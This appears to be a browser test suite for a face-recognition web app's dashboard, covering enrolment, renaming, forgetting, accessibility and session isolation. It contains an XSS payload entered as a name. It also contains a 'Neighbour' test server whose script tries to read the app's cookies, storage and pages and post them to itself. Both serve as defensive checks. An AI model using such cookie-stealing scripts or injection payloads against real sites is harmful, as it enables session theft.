@@ -1,0 +1,402 @@
+"""The page as people use it: in a real browser, on a real daemon."""
+
+import json
+import re
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+from urllib.error import HTTPError
+from urllib.request import Request, urlopen
+
+import pytest
+from fixtures.broker import authority, eventually, needs_openssl
+from fixtures.browser import AXE, CHROMIUM, FLAGS, Door, needs_axe, needs_browser
+from fixtures.page import serving
+
+pytestmark = needs_browser
+VIEWS = {"live": "/", "people": "/people", "visits": "/visits", "unknown": "/unknown", "enrol": "/enrol", "health": "/health"}
+MAX_LOAD = 200 * 1024
+TAKEN = {"": {"people", "visits", "unknown", "health"}, "-dark": {"live", "visits"}, "-phone": {"live", "people", "visits"}}
+"""The views that are in the documentation; "live" and "enrol" are taken while something happens."""
+SECONDS = 20_000
+"""Milliseconds that the browser waits for anything: a busy machine is no fault of the page's."""
+
+
+@pytest.fixture(scope="module")
+def door(tmp_path_factory):
+    running = Door(tmp_path_factory.mktemp("door"))
+    yield running
+    running.close()
+
+
+@pytest.fixture(scope="module")
+def chromium():
+    from playwright.sync_api import expect, sync_playwright
+
+    expect.set_options(timeout=SECONDS)
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def open_page(door, chromium):
+    """Opens a page that is signed in; whatever goes wrong in it fails the test."""
+    faults, contexts = [], []
+
+    def open_(**options):
+        context = chromium.new_context(**{"viewport": {"width": 1280, "height": 860}, "locale": "en-GB"} | options)
+        contexts.append(context)
+        context.set_default_timeout(SECONDS)
+        page = context.new_page()
+        page.on("pageerror", lambda error: faults.append(str(error)))
+        page.on("console", lambda line: faults.append(line.text) if "Content Security Policy" in line.text else None)
+        page.goto(door.link)
+        return page
+
+    yield open_
+    for context in contexts:
+        context.close()
+    assert not faults
+
+
+def signed(page, path):
+    """The address of a view in the session that a page has."""
+    return re.match(r"https?://[^/]+/~[^/]+", page.url)[0] + path
+
+
+@pytest.fixture
+def screenshot(request):
+    """Takes a picture for the documentation, where ``--screenshots`` says."""
+    folder = request.config.getoption("--screenshots")
+
+    def take(page, name):
+        if folder:
+            Path(folder).mkdir(parents=True, exist_ok=True)
+            page.screenshot(path=Path(folder) / f"{name}.png")
+
+    return take
+
+
+def test_from_a_stranger_to_a_friend_and_back(door, open_page, screenshot, demo_photos):
+    from playwright.sync_api import expect
+
+    page = open_page()
+    assert re.fullmatch(rf"{door.address}/~[\w-]+/", page.url)  # the token is gone from the address
+    door.show(demo_photos / "obama_portrait.jpg")
+    expect(page.locator(".box").first).to_contain_text(re.compile("Looking|unknown"))
+
+    # Enrol, told what to do
+    page.get_by_role("link", name="Enrol").click()
+    page.get_by_label("Name").fill("Barack")
+    page.get_by_role("button", name="Start with the camera").click()
+    progress = page.get_by_role("progressbar", name="Views taken")
+    hint = page.locator("[data-hint]")
+    expect(hint).to_have_text(re.compile("turn|look|change|taken"))
+    screenshot(page, "enrol")
+    door.show(demo_photos / "obama_congress.jpg")
+    expect(progress).to_have_js_property("value", 2)
+    page.get_by_role("button", name="That is enough").click()
+    expect(page.locator("[data-told]")).to_contain_text("Barack is known from 2 views now.")
+    expect(page.locator("[data-told]")).to_contain_text("Will be recognised from about")
+
+    # They leave and come back: the visit is on the page, and on the broker
+    door.show(None)
+    page.get_by_role("link", name="Live").click()
+    expect(page.get_by_text("Nobody at the moment.")).to_be_visible()
+    door.show(demo_photos / "obama_press_room.jpg")
+    expect(page.locator(".box.known")).to_contain_text("Barack")
+    expect(page.locator("[data-refresh]")).to_contain_text("Barack")
+    assert eventually(lambda: [event for event in door.events.on("/event") if event.get("name") == "Barack"], 30)
+    expect(page.locator("[data-refresh] img").first).to_have_js_property("complete", True)
+    screenshot(page, "live")
+
+    # Another name, text whatever it is
+    page.get_by_role("link", name="People").click()
+    card = page.get_by_role("listitem").filter(has_text="Barack")
+    card.get_by_text("Rename").first.click()
+    card.get_by_label("New name for Barack").fill("<script>alert(1)</script>")
+    card.get_by_role("button", name="Rename").click()
+    expect(page.get_by_role("status").first).to_contain_text("The name is <script>alert(1)</script> now.")
+    page.get_by_text("Rename").first.click()
+    page.get_by_label("New name for").fill("Barack O.")
+    page.get_by_role("button", name="Rename").click()
+    expect(page.get_by_role("heading", name="Barack O.")).to_be_visible()
+    assert "Barack O." in door.edgeface("people", "list").stdout
+
+    # It was them; no, it was not
+    page.get_by_role("link", name="Visits", exact=True).first.click()
+    page.get_by_role("button", name=re.compile("^That.s right")).first.click()
+    expect(page.get_by_text("You said: right").first).to_be_visible()
+    page.get_by_role("button", name=re.compile("^Not Barack O")).first.click()
+    doubted = page.get_by_role("button", name="All the same: not Barack O.")
+    expect(page.locator(".note").first).to_be_visible()
+    if doubted.count():
+        doubted.click()
+    expect(page.get_by_text("You said: not Barack O.").first).to_be_visible()
+    judged = json.loads(door.edgeface("events", "list", "--json").stdout)["events"]
+    assert [event["name"] for event in judged if event["verdict"] == "rejected"] == ["Barack O."]
+
+    # Forget: gone from everywhere
+    page.get_by_role("link", name="People").click()
+    card = page.get_by_role("listitem").filter(has_text="Barack O.")
+    card.get_by_text("Forget").first.click()
+    card.get_by_role("button", name="Forget Barack O. for good").click()
+    expect(page.get_by_role("status").first).to_contain_text("Barack O. is forgotten")
+    assert "Barack" not in page.locator("ul.cards").inner_text() if page.locator("ul.cards").count() else True
+    for path in VIEWS.values():
+        page.goto(signed(page, path))
+        assert "Barack" not in page.content(), path
+    assert json.loads(door.edgeface("people", "list", "--json").stdout) == {"people": []}
+    door.empty()
+
+
+def test_a_stranger_is_one_row_and_gets_a_name(door, open_page, screenshot, demo_photos):
+    from playwright.sync_api import expect
+
+    page = open_page()
+    for _ in range(2):
+        before = len(unknown(door))
+        door.show(demo_photos / "collins_portrait.jpg")
+        assert eventually(lambda count=before: len(unknown(door)) > count, 60)
+        door.empty()
+    page.goto(signed(page, "/unknown"))
+    row = page.locator(".stranger").filter(has_text="2 visits")
+    expect(row).to_have_count(1)
+    expect(row.locator("img")).to_have_count(2)
+    row.get_by_label("Name of this visitor").fill("Eileen")
+    row.get_by_role("button", name="Save name").click()
+    expect(page.get_by_role("status").first).to_contain_text("That was Eileen")
+    door.show(demo_photos / "collins_portrait.jpg")
+    assert eventually(lambda: [event for event in door.events.on("/event") if event.get("name") == "Eileen"], 60)
+    door.empty()
+    others = page.locator(".stranger")
+    for _ in range(others.count()):
+        others.first.get_by_role("button", name="Dismiss").click()
+        expect(page.get_by_role("status").first).to_contain_text("Dismissed")
+    expect(page.get_by_text("Nobody unknown was here.")).to_be_visible()
+
+
+def unknown(door):
+    return [event for event in door.events.on("/event") if event["event_type"] == "unknown"]
+
+
+@pytest.fixture(scope="module")
+def furnished(door, demo_photos):
+    """Two people, their visits and a stranger, so that each view has something to show."""
+    door.edgeface("enroll", "Eileen", "--image", str(demo_photos / "collins_portrait.jpg"))
+    for name in ("obama_portrait", "obama_press_room", "obama_congress"):
+        door.edgeface("enroll", "Barack", "--image", str(demo_photos / f"{name}.jpg"))
+    for scene in ("biden_portrait", "collins_portrait", "obama_press_room"):
+        door.empty()
+        count = door.arrivals()
+        door.show(demo_photos / f"{scene}.jpg")
+        assert eventually(lambda before=count: door.arrivals() > before, 60)
+    return door
+
+
+@pytest.mark.parametrize("view", VIEWS)
+def test_a_view_is_small_and_loads_nothing_from_elsewhere(furnished, open_page, view):
+    page, asked = open_page(), []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(signed(page, VIEWS[view]), wait_until="load")
+    page.wait_for_timeout(300)
+    loaded = page.evaluate(
+        "[...performance.getEntriesByType('navigation'), ...performance.getEntriesByType('resource')]"
+        ".map(entry => [entry.name, entry.encodedBodySize])"
+    )
+    pictures = [size for name, size in loaded if "/live/picture" in name]
+    size = sum(size for name, size in loaded if "/live/picture" not in name) + max(pictures, default=0)
+    assert 20_000 < size < MAX_LOAD, loaded  # with one picture of the camera, of which a new one comes every moment
+    assert all(url.startswith((furnished.address, "blob:")) for url in asked), asked
+
+
+@needs_axe
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 390])
+def test_axe_finds_nothing_serious(furnished, open_page, scheme, width):
+    page = open_page(color_scheme=scheme, viewport={"width": width, "height": 844})
+    for view, path in VIEWS.items():
+        page.goto(signed(page, path))
+        if path in ("/", "/enrol"):
+            page.locator("[data-picture]").wait_for(state="visible")
+        page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true")
+        page.evaluate(Path(AXE).read_text())
+        found = page.evaluate("axe.run(document)")
+        assert len(found["passes"]) > 10
+        serious = [rule for rule in found["violations"] if rule["impact"] in ("serious", "critical", "moderate")]
+        assert not serious, (view, [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in serious])
+
+
+def test_it_is_used_with_keys_alone(furnished, open_page):
+    page = open_page()
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.id") == "main"
+    page.goto(signed(page, "/people"))
+    reached = set()
+    for _ in range(60):
+        page.keyboard.press("Tab")
+        reached.add(page.evaluate("document.activeElement.textContent.trim()"))
+    assert {"Live", "Health", "Add somebody", "Rename Barack", "Forget Barack"} <= reached
+    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+    assert outline != "none" or page.evaluate("document.activeElement === document.body")
+
+
+@pytest.mark.parametrize(
+    ("suffix", "options"),
+    [
+        ("", {}),
+        ("-dark", {"color_scheme": "dark"}),
+        ("-phone", {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}),
+    ],
+)
+def test_nothing_is_cut_off_at_any_width(furnished, open_page, screenshot, suffix, options):
+    page = open_page(**options)
+    for view, path in VIEWS.items():
+        page.goto(signed(page, path))
+        if path in ("/", "/enrol"):
+            page.locator(".box.known").first.wait_for(state="visible")
+        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"), view
+        if view in TAKEN[suffix]:
+            screenshot(page, f"{view}{suffix}")
+
+
+# Sessions
+
+
+class Neighbour(BaseHTTPRequestHandler):
+    """Another server at the same host, which keeps what a browser sends it, and has its page try all that a script may."""
+
+    SCRIPT = """<!doctype html><title>Neighbour</title><img src="AT/people"><script>
+    (async () => {
+      const told = { cookie: document.cookie, storage: { ...localStorage }, referrer: document.referrer, read: [] };
+      for (const path of ["/", "/people", "/live/picture", "/static/page.js"])
+        for (const mode of ["cors", "no-cors"])
+          try { told.read.push(await (await fetch("AT" + path, { mode, credentials: "include" })).text()); } catch {}
+      await fetch("/told", { method: "POST", body: JSON.stringify(told) });
+      document.title = "Done";
+    })();
+    </script>"""
+
+    def do_GET(self):
+        self.server.seen.append((self.path, dict(self.headers)))
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.SCRIPT.replace("AT", self.server.target).encode())
+
+    def do_POST(self):
+        self.server.told.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
+        self.do_GET()
+
+    def log_message(self, *words):
+        pass
+
+
+@pytest.fixture
+def neighbour(door):
+    with ThreadingHTTPServer(("127.0.0.1", 0), Neighbour) as server:
+        server.seen, server.told, server.target = [], [], door.address
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+def test_another_port_of_the_host_gets_nothing_that_opens_the_page(door, open_page, neighbour):
+    from playwright.sync_api import expect
+
+    page = open_page()
+    key = signed(page, "").rpartition("/~")[2]
+    page.goto(signed(page, "/people"))
+    for path in ("/", "/people", "/~x/"):
+        page.evaluate("address => { location.href = address }", f"http://127.0.0.1:{neighbour.server_port}{path}")
+        page.wait_for_function("document.title === 'Done'")
+    told = json.dumps(neighbour.told) + json.dumps(neighbour.seen)
+    assert len(neighbour.told) == 3
+    assert key not in told
+    with pytest.raises(HTTPError) as refused:  # so that the tries below mean something: these are the headers of a browser
+        opened(door.address + "/people", {})
+    assert refused.value.code == 401
+    for path, headers in [*neighbour.seen, ("/people", {"cookie": whole_cookie(page, door)})]:
+        kept = {name: value for name, value in headers.items() if name.lower() != "host"}
+        for tried in {path, *VIEWS.values()}:
+            with pytest.raises(HTTPError) as refused:
+                opened(door.address + tried, kept)
+            assert refused.value.code == 401
+    page.goto(f"{door.address}/people")  # the owner's browser is signed in as before
+    expect(page.get_by_role("heading", name="People")).to_be_visible()
+
+
+def whole_cookie(page, door):
+    """All that a browser has for the page's session, as if another port had been sent it: still not the path."""
+    return "; ".join(f"{cookie['name']}={cookie['value']}" for cookie in page.context.cookies(signed_root(page, door)))
+
+
+def signed_root(page, door):
+    page.goto(f"{door.address}/health")
+    page.wait_for_url("**/~*/health")
+    return page.url
+
+
+def opened(address, headers):
+    with urlopen(Request(address, headers=headers), timeout=30) as answer:
+        return answer.read()
+
+
+def test_a_short_or_an_old_address_leads_to_the_session_until_it_is_ended(door, open_page):
+    from playwright.sync_api import expect
+
+    page, other = open_page(), open_page()
+    for address in ("/people", "/~AAAAAAAAAAAAAAAAAAAAAA/people", "/~AAAA", "/"):
+        page.goto(door.address + address)
+        page.wait_for_url("**/~*/people" if "people" in address else "**/~*/")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
+    for address in ("/people", "/"):
+        page.goto(door.address + address)
+        expect(page.get_by_role("heading", name="This page is locked")).to_be_visible()
+    other.reload()
+    expect(other.get_by_role("button", name="Sign out")).to_be_visible()
+    assert page.evaluate("localStorage.length") == 0
+
+
+def test_without_scripts_it_is_read_changed_and_left(door, open_page, demo_photos):
+    from playwright.sync_api import expect
+
+    door.edgeface("enroll", "Anna", "--image", str(demo_photos / "collins_portrait.jpg"))
+    page = open_page(java_script_enabled=False)
+    for title in ("People", "Unknown", "Enrol", "Health", "Visits"):
+        page.get_by_role("navigation").get_by_role("link", name=title, exact=True).click()
+        expect(page.get_by_role("heading", level=1)).to_contain_text(title)
+    page.get_by_role("button", name="Show").click()
+    expect(page.get_by_role("heading", level=1)).to_contain_text("Visits")
+    page.get_by_role("navigation").get_by_role("link", name="People", exact=True).click()
+    card = page.get_by_role("listitem").filter(has_text="Anna")
+    card.get_by_text("Forget").first.click()
+    card.get_by_role("button", name="Forget Anna for good").click()
+    expect(page.get_by_role("status").first).to_contain_text("Anna is forgotten")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
+    page.go_back()
+    expect(page.get_by_role("heading", name="This page is locked")).to_be_visible()
+
+
+@needs_openssl
+def test_it_is_used_encrypted(chromium, tmp_path):
+    from playwright.sync_api import expect
+
+    keys = authority(tmp_path / "keys")
+    with serving(tmp_path, tls_cert=str(keys / "server.pem"), tls_key=str(keys / "server.key")) as served:
+        context = chromium.new_context(ignore_https_errors=True)
+        page = context.new_page()
+        page.goto(f"https://127.0.0.1:{served.port}/?token={served.token.text()}")
+        page.get_by_role("link", name="People").click()
+        expect(page.get_by_role("heading", name="People")).to_be_visible()
+        (cookie,) = context.cookies()
+        assert (cookie["name"], cookie["secure"], cookie["path"]) == (f"__Host-edgeface-{served.port}", True, "/")
+        page.get_by_role("button", name="Sign out").click()
+        expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
+        context.close()
